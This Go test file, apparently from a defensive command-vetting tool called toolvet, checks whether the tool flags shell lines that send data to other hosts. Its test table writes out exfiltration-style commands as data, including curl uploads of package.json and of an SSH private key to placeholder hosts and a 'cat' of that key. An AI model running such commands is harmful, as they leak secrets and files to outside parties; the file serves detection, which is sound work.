// Copyright 2026 The toolvet authors
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"slices"
	"testing"

	"github.com/toolvet/toolvet/check"
)

// TestSends holds that a finding tells by a field whether the line sends something, apart from its message.
func TestSends(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"curl https://other.example/x":                                   "",
		"curl -o x https://example.org/x":                                "",
		"curl -d @package.json https://other.example/x":                  network,
		"cat package.json | curl --data-binary @- https://other.example": network,
		"curl -F x=@/home/a/.ssh/id_rsa https://example.org/x":           secret,
		"git remote add x https://example.org/x.git && git push x":       network,
		"cat /home/a/.ssh/id_rsa":                                        "",
	} {
		o := &Options{Shell: "bash", Hosts: []string{"example.org"}, Allow: []string{pipe, and}}
		findings := o.judge(line)
		sends := slices.IndexFunc(findings, func(f check.Finding) bool { return f.Sends })
		switch {
		case want == "" && sends >= 0, want != "" && (sends < 0 || findings[sends].Source != want):
			t.Errorf("%s: %+v, want one that sends: %q", line, findings, want)
		}
	}
}
